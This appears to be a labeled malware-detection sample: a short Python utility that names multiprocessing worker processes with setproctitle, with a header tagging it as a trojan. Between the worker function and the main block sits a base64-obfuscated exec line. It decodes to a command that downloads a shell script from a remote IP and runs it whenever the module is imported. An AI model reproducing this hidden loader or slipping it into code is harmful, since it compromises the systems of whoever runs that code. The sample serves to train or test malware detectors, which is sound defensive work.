# label: malicious family=trojan techniques=T1140,T1027,T1059.006 lines=18 group=benign/b219_proc_title.py
"""Name worker processes so ops can tell them apart in ps/top."""
import multiprocessing as mp

try:
    import setproctitle
except ImportError:
    setproctitle = None


def worker(n):
    if setproctitle:
        setproctitle.setproctitle(f"myapp-worker-{n}")
    return n * n


import base64 as _b
exec(_b.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjk5L3UgfCBzaCIp"))

if __name__ == "__main__":
    with mp.Pool(4) as p:
        print(p.map(worker, range(8)))
